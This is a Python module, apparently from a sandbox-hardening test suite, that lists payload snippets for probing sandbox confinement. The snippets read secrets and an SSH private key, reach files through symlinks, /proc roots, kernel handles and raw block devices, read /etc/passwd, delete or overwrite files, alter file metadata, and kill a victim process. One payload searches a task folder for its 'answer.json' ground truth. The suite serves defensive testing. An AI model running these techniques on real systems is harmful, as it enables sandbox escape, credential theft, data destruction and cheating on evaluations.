"""Attacks that read or change the host's files or metadata, or misuse a readable file descriptor.

Metadata are modes, owners, dates, attributes and flags. Each attack on them tries all system calls
for its purpose, with the file's path and its descriptor. Descriptors can have leases, locks and
owners.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

from coevo_gym.sandbox import Level
from coevo_gym.sandbox.attacks.decoys import ATTRIBUTE
from coevo_gym.sandbox.attacks.host import HostObservations, is_secret_stolen, reports_success
from coevo_gym.sandbox.attacks.payload import parse_payloads

_FILES = """
## read-file: read a file by its path
say(read(host.secret))

## read-ground-truth: search a task's folder for its ground truth
for folder, _, names in os.walk(host.folder):
    for name in names:
        if name == "answer.json": say(read(os.path.join(folder, name)))

## read-home: read a key in the user's home
say(read(os.path.join(host.home, '.ssh', 'id_ed25519')))

## list-folder: list a folder
say(os.listdir(os.path.join(host.folder, 'listed')))

## symbolic-link: read a file through a symbolic link
link = os.path.join(host.scratch, "link")
os.symlink(host.secret, link)
say(read(link))

## hard-link: read a file through a hard link
link = os.path.join(host.scratch, "link")
os.link(host.secret, link)
say(read(link))

## climb: read a file by climbing up from an open folder
folder = os.open(".", os.O_RDONLY)
os.chdir("/")
path = "../" * 40 + host.secret.lstrip("/")
say(os.read(os.open(path, os.O_RDONLY, dir_fd=folder), 100).decode())

## root-of-a-process: read a file through /proc/PID/root of the parent
say(read(f'/proc/{os.getppid()}/root{host.secret}'))

## folder-of-a-process: read a file through the victim's /proc/PID/cwd
say(read(f'/proc/{host.victim}/cwd/secret.txt'))

## file-handle: open a file by its kernel handle, without a path
handle = ctypes.create_string_buffer(bytes.fromhex(host.handle))
for folder in ("/", "/tmp", sys.prefix):
    try: descriptor = call("open_by_handle_at", os.open(folder, os.O_RDONLY), handle, 0)
    except OSError as error: say(error)
    else: say(os.read(descriptor, 100).decode())

## ctypes: read a file with the C library, bypassing Python
libc.fopen.restype = ctypes.c_void_p
libc.fgets.argtypes = ctypes.c_char_p, ctypes.c_int, ctypes.c_void_p
text, file = ctypes.create_string_buffer(100), libc.fopen(host.secret.encode(), b"r")
if not file: raise OSError(ctypes.get_errno(), "fopen")
libc.fgets(text, 100, file)
say(text.value.decode())

## dlopen: load a copy of the C library, and read a file with it
import shutil
copy = os.path.join(host.scratch, "library.so")
shutil.copyfile(next(p for p in map(str.split, read("/proc/self/maps").splitlines())
                     if "libc.so.6" in p[-1])[-1], copy)
own = ctypes.CDLL(copy, use_errno=True)
text = ctypes.create_string_buffer(100)
own.read(checked(own.open(host.secret.encode(), 0)), text, 100)
say(text.value.decode())

## exec: execute another program that reads a file
os.dup2(channel, 1); os.execv('/bin/cat', ['cat', host.secret])

## shell: read a file with a shell
import subprocess
say(subprocess.run(["sh", "-c", 'cat "$0"', host.secret], capture_output=True).stdout.decode())

## program-in-memory: run a program from memory
program = os.memfd_create("program", 0)
with open("/bin/cat", "rb") as file: os.sendfile(program, file.fileno(), 0, 1 << 24)
os.dup2(channel, 1)
os.execve(program, ["cat", host.secret], {})

## block-device: create a device file for the disk, and read it
import stat
path = os.path.join(host.scratch, "disk")
os.mknod(path, stat.S_IFBLK | 0o600, os.stat(host.folder).st_dev)
if os.read(os.open(path, os.O_RDONLY), 1): say("DONE")

## read-accounts: read the list of the host's accounts
say(read('/etc/passwd')[:5])

## look-up-file: look up a file's size
os.stat(host.secret); say('DONE')

## write-file: write a new file
open(os.path.join(host.folder, 'written'), 'w').close()

## overwrite-file: overwrite a file
open(host.secret, 'w').close()

## delete-file: delete a file
os.unlink(host.secret)

## rename-file: rename a file
os.rename(host.secret, host.secret + '.old')

## empty-by-reading: truncate a readable file by opening it for reading
import struct
any_way(lambda: os.open(host.readable, os.O_RDONLY | os.O_TRUNC),
        lambda: call(
            "openat2", -100, host.readable.encode(), struct.pack("3Q", os.O_TRUNC, 0, 0), 24))

## empty-unseen: truncate a file by opening it for neither reading nor writing
os.open(host.secret, 3 | os.O_TRUNC)

## write-library: write into the interpreter's own folder
os.open(host.library, os.O_TMPFILE | os.O_WRONLY); say('DONE')
"""


_ASPECTS = """
## mode: change the mode
any_way(("chmod", path, mode), ("fchmod", file, mode), ("fchmodat", -100, path, mode),
        ("fchmodat2", -100, path, mode, 0))

## owner: change the owner
uid, gid = status.st_uid, status.st_gid
any_way(("chown", path, uid, gid), ("lchown", path, uid, gid), ("fchown", file, uid, gid),
        ("fchownat", -100, path, uid, gid, 0))

## date: change the dates
exact = struct.pack("4q", *(part for ns in dates for part in divmod(ns, 10**9)))
rough = struct.pack("4q", *(part for ns in dates for part in divmod(ns // 1000, 10**6)))
seconds = struct.pack("2q", *(ns // 10**9 for ns in dates))
any_way(("utimensat", -100, path, exact, 0), ("utimensat", file, 0, exact, 0),
        ("utimes", path, rough), ("futimesat", -100, path, rough), ("utime", path, seconds))

## attribute: set an attribute
held = ctypes.create_string_buffer(value, len(value))
order = struct.pack("QII", ctypes.addressof(held), len(value), 0)
any_way(("setxattr", path, attribute, value, len(value), 0),
        ("lsetxattr", path, attribute, value, len(value), 0),
        ("fsetxattr", file, attribute, value, len(value), 0),
        ("setxattrat", -100, path, 0, attribute, order, 16))

## no-attribute: remove an attribute
any_way(("removexattr", path, attribute), ("lremovexattr", path, attribute),
        ("fremovexattr", file, attribute), ("removexattrat", -100, path, 0, attribute))

## flag: set a flag
not_dumped = struct.pack("l", 0x40), struct.pack("7I", 0x80, 0, 0, 0, 0, 0, 0)
any_way(lambda: checked(libc.ioctl(file, 0x40086602, not_dumped[0])),
        lambda: checked(libc.ioctl(file, 0x401C5820, not_dumped[1])),
        ("file_setattr", -100, path, struct.pack("QIIII", 0x80, 0, 0, 0, 0), 24, 0))
"""

_OTHER = f"""
import struct
mode, dates = 0o777, (0, 0)
attribute, value = {ATTRIBUTE.encode()!r}, b"changed"
"""
_AS_IT_IS = f"""
import struct
attribute, value = {ATTRIBUTE.encode()!r}, b"changed"
status = os.stat(path)
mode, dates = status.st_mode & 0o777, (status.st_atime_ns, status.st_mtime_ns)
"""

_TARGETS: tuple[tuple[str, str, str, tuple[str, ...], Callable[[HostObservations], bool]], ...] = (
    (
        "file",
        "a file",
        f"""
path = host.secret.encode()
status, file = os.stat(path), os.open(path, os.O_PATH)
{_OTHER}
""",
        (),
        lambda seen: seen.host.has_changed(seen.host.secret),
    ),
    (
        "given-file",
        "a readable file",
        f"""
path = host.readable.encode()
status, file = os.stat(path), os.open(path, os.O_RDONLY)
{_OTHER}
""",
        (),
        lambda seen: seen.host.has_changed(seen.host.readable),
    ),
    (
        "device",
        "/dev/null (to its current value)",
        f"""
path = b"/dev/null"
file = os.open(path, os.O_RDONLY)
{_AS_IT_IS}
attribute = b"system.posix_acl_access"
value = struct.pack("I", 2) + b"".join(
    struct.pack("HHi", who, mode >> shift & 7, -1) for who, shift in ((1, 6), (4, 3), (32, 0)))
""",
        ("flag",),
        reports_success,
    ),
    (
        "descriptor",
        "its standard output (to its current value)",
        f"""
path, file = b"/proc/self/fd/1", 1
{_AS_IT_IS}
""",
        ("no-attribute",),
        reports_success,
    ),
)

_DESCRIPTORS = """
## write-lease: take a lease on a readable file, which makes writers wait
fcntl.fcntl(os.open(host.readable, os.O_RDONLY), 1024, fcntl.F_RDLCK)

## read-lease: take a lease on a readable file, which makes readers wait
fcntl.fcntl(os.open(host.readable, os.O_RDONLY), 1024, fcntl.F_WRLCK)

## file-lock: lock a readable file
fcntl.flock(os.open(host.readable, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)

## record-lock: lock part of a readable file
import struct
file, lock = os.open(host.readable, os.O_RDONLY), struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0)
any_way(*(lambda how=how: fcntl.fcntl(file, how, lock) for how in (6, 7, 37, 38)))

## folder-notice: watch what the host does in a readable folder (F_NOTIFY)
fcntl.fcntl(os.open(os.path.dirname(host.readable), os.O_RDONLY), 1026, 1)

## owner: choose which process receives a descriptor's signals (itself)
import struct
reading, me = os.pipe()[0], struct.pack("i", os.getpid())
any_way(lambda: fcntl.fcntl(reading, 8, os.getpid()),
        lambda: fcntl.fcntl(reading, 15, struct.pack("2i", 1, os.getpid())),
        *(lambda how=how: fcntl.ioctl(host.stream, how, me) for how in (0x8901, 0x8902)))

## signals: make a descriptor send signals of a chosen kind
import struct
reading = os.pipe()[0]
any_way(lambda: fcntl.fcntl(reading, 10, signal.SIGKILL),
        lambda: fcntl.fcntl(reading, 4, 0x2000),
        lambda: fcntl.ioctl(reading, 0x5452, struct.pack("i", 1)))

## size-of-a-pipe: enlarge a pipe, using memory that all of a user's pipes share
fcntl.fcntl(os.pipe()[0], 1031, 1 << 18)

## hint-of-a-file: give the kernel a lifetime hint for a readable file
fcntl.fcntl(os.open(host.readable, os.O_RDONLY), 1036, bytes([2, 0, 0, 0, 0, 0, 0, 0]))

## kill-as-owner: kill the victim by making it the owner of a pipe that sends SIGKILL
reading, writing = os.pipe()
fcntl.fcntl(reading, 8, host.victim)
fcntl.fcntl(reading, 10, signal.SIGKILL)
fcntl.fcntl(reading, 4, 0x2000)
os.write(writing, b"x")
"""
"""Attacks that make other processes wait for a file, or make the kernel send signals."""

_METADATA = tuple(
    replace(aspect, name=f"{aspect.name}-of-a-{name}", what=f"{aspect.what} of {what}")
    for name, what, prelude, left_out, sign in _TARGETS
    for aspect in parse_payloads(_ASPECTS, sign, before=f"{prelude.strip()}\n")
    if aspect.name not in left_out
)


def _is_secret_lost(seen: HostObservations) -> bool:
    """Return True if the file with the secret is gone or has changed."""
    return not seen.host.secret.is_file() or seen.host.secret.read_text() != seen.host.token


PAYLOADS = (
    *parse_payloads(
        _FILES,
        is_secret_stolen,
        signs={
            **dict.fromkeys(("block-device", "look-up-file", "write-library"), reports_success),
            **dict.fromkeys(
                ("overwrite-file", "delete-file", "rename-file", "empty-unseen"), _is_secret_lost
            ),
            "read-accounts": lambda seen: "root:" in seen.said,
            "write-file": lambda seen: (seen.host.folder / "written").exists(),
            "empty-by-reading": lambda seen: seen.host.has_changed(seen.host.readable),
        },
        claimed={"look-up-file": lambda level: level is not Level.LANDLOCK},
    ),
    *_METADATA,
    *parse_payloads(
        _DESCRIPTORS,
        reports_success,
        before="import fcntl\n",
        after="\nsay('DONE')",
        signs={"kill-as-owner": lambda seen: not seen.host.victim_lives()},
    ),
)
